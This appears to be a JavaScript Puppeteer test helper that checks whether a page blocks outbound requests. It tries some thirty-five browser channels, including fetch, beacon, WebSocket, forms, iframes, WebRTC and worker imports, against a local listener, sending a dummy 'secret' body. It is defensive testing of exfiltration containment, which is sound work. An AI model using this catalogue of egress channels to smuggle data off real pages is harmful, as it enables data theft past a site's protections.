// Whoever gets to run a script in the page, or in a worker of it, tries to reach a server on this machine in every way.
// @ts-check
import http from 'node:http';

/** Every way there is; each runs in the page with the address to reach. @type {Record<string, (alamat: string) => unknown>} */
const WAYS = {
  xhr: (away) => { const one = new XMLHttpRequest(); one.open('POST', `${away}xhr`); one.send('rahasia'); },
  fetch: (away) => fetch(`${away}fetch`, { method: 'POST', mode: 'no-cors', body: 'rahasia' }).catch(() => 0),
  'fetch keepalive': (away) => fetch(`${away}keepalive`, { keepalive: true, mode: 'no-cors' }).catch(() => 0),
  beacon: (away) => { navigator.sendBeacon(`${away}beacon`, 'rahasia'); },
  gambar: (away) => { new Image().src = `${away}gambar`; },
  websocket: (away) => { new WebSocket(`${away.replace('http', 'ws')}websocket`); },
  eventsource: (away) => { new EventSource(`${away}eventsource`); },
  skrip: (away) => { const one = document.createElement('script'); one.src = `${away}skrip`; document.head.append(one); },
  modul: (away) => import(`${away}modul`).catch(() => 0),
  gaya: (away) => { const one = document.createElement('link'); one.rel = 'stylesheet'; one.href = `${away}gaya`; document.head.append(one); },
  prefetch: (away) => { const one = document.createElement('link'); one.rel = 'prefetch'; one.href = `${away}prefetch`; document.head.append(one); },
  preload: (away) => { const one = document.createElement('link'); one.rel = 'preload'; one.as = 'image'; one.href = `${away}preload`; document.head.append(one); },
  manifest: (away) => { const one = document.createElement('link'); one.rel = 'manifest'; one.href = `${away}manifest`; document.head.append(one); },
  huruf: (away) => new FontFace('x', `url(${away}huruf)`).load().catch(() => 0),
  video: (away) => { const one = document.createElement('video'); one.src = `${away}video`; document.body.append(one); one.load(); },
  bingkai: (away) => { const one = document.createElement('iframe'); one.src = `${away}bingkai`; document.body.append(one); },
  objek: (away) => { const one = document.createElement('object'); one.data = `${away}objek`; document.body.append(one); },
  'gambar svg': (away) => { const one = document.createElementNS('http://www.w3.org/2000/svg', 'image'); one.setAttribute('href', `${away}svg`); const box = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); box.append(one); document.body.append(box); },
  formulir: (away) => { const one = document.createElement('form'); one.action = `${away}formulir`; one.method = 'post'; document.body.append(one); one.submit(); },
  'formulir diminta': (away) => { const one = document.createElement('form'); one.action = `${away}formulir2`; document.body.append(one); one.requestSubmit(); },
  tautan: (away) => { const one = document.createElement('a'); one.href = `${away}tautan`; document.body.append(one); one.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); },
  'tautan ke jendela': (away) => { const one = document.createElement('a'); one.href = `${away}jendela`; one.target = '_blank'; document.body.append(one); one.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); },
  ping: (away) => { const one = document.createElement('a'); one.href = '#isi'; one.setAttribute('ping', `${away}ping`); document.body.append(one); one.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })); },
  'window.open': (away) => { window.open(`${away}open`); },
  'open dari bingkai': (away) => { const one = document.createElement('iframe'); document.body.append(one); one.contentWindow?.open(`${away}open2`); },
  'bingkai ke induk': (away) => { const one = document.createElement('iframe'); document.body.append(one); if (one.contentWindow) one.contentWindow.parent.location.href = `${away}induk`; },
  'location.href': (away) => { location.href = `${away}href`; },
  'location.assign': (away) => { location.assign(`${away}assign`); },
  'location.replace': (away) => { location.replace(`${away}replace`); },
  'navigation.navigate': (away) => { /** @type {any} */ (window).navigation?.navigate(`${away}navigate`).finished.catch(() => 0); },
  'meta refresh': (away) => { const one = document.createElement('meta'); one.httpEquiv = 'refresh'; one.content = `0;url=${away}refresh`; document.head.append(one); },
  'skrip sisipan': (away) => { const one = document.createElement('script'); one.textContent = `location.href=${JSON.stringify(`${away}sisipan`)}`; document.body.append(one); },
  rtc: (away) => { const Door = /** @type {any} */ (window).RTCPeerConnection; if (Door) new Door({ iceServers: [{ urls: `stun:${away.slice(7, -1)}` }] }); },
  'di pekerja': (away) => new Promise((done) => {
    const code = `fetch('${away}pekerja',{mode:'no-cors'}).catch(()=>0);try{const x=new XMLHttpRequest();x.open('GET','${away}pekerja-xhr',false);x.send()}catch{};try{new WebSocket('${away.replace('http', 'ws')}pekerja-ws')}catch{};try{importScripts('${away}pekerja-skrip')}catch{};import('${away}pekerja-modul').catch(()=>0);postMessage(1)`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = () => done(0);
    worker.onerror = () => done(0);
  }),
};

/** Ways of which a server is told at once wherever no page forbids them. */
const OPEN = ['xhr', 'fetch', 'beacon', 'gambar', 'websocket', 'di pekerja'];
const PAUSE = 60;

/** @param {number} lama milliseconds */
const pause = (lama) => new Promise((done) => { setTimeout(done, lama); });

/**
 * @param {import('puppeteer-core').Page} page
 * @param {string} alamat
 * @param {string[]} cara
 * @returns {Promise<string[]>} what was tried, and what the page said to it
 */
async function run(page, alamat, cara) {
  const tried = [];
  for (const way of cara) {
    await page.evaluate(`(${WAYS[way]})(${JSON.stringify(alamat)})`).catch((problem) => { tried.push(`(${String(problem).slice(0, 80)})`); });
    await pause(PAUSE);
    tried.push(way);
  }
  return tried;
}

/** @param {import('puppeteer-core').Page} page @returns what was tried, what reached the server, what a page that forbids nothing reached, and what the page's own trial says */
export async function tryDoors(page) {
  /** @type {string[]} */
  const reached = [];
  const server = http.createServer((request, response) => {
    reached.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('x');
  });
  server.on('upgrade', (request, socket) => {
    reached.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise((done) => { server.listen(0, '127.0.0.1', () => done(undefined)); });
  const port = /** @type {import('node:net').AddressInfo} */ (server.address()).port;
  const away = `http://127.0.0.1:${port}/`;
  try {
    const plain = await page.browser().newPage();
    await plain.goto(`${away}bebas`);
    await run(plain, away, OPEN);
    for (let round = 0; round < 100 && !reached.includes('/pekerja-skrip'); round += 1) await pause(PAUSE);
    await plain.close();
    await page.bringToFront();
    const free = reached.splice(0);
    const tried = await run(page, away, Object.keys(WAYS));
    await pause(1500);
    await page.$eval('footer details', (box) => { /** @type {HTMLDetailsElement} */ (box).open = true; });
    await page.$eval('#uji-kirim', (one) => /** @type {HTMLElement} */ (one).click());
    await page.waitForFunction('document.querySelectorAll("#uji-kirim-hasil li").length === 3', { timeout: 10000 });
    const own = await page.$eval('#uji-kirim-hasil', (one) => /** @type {HTMLElement} */ (one).innerText);
    return { bebas: free, dicoba: tried, sampai: reached, sendiri: own, halaman: page.url(), simpanan: await page.evaluate(async () => {
      const all = { lokal: 0, sesi: 0, basis: 0, kue: document.cookie.length };
      try { all.lokal = localStorage.length; all.sesi = sessionStorage.length; } catch { /* none at all */ }
      try { all.basis = (await indexedDB.databases()).length; } catch { /* none at all */ }
      return all;
    }) };
  } finally {
    server.closeAllConnections();
    server.close();
  }
}
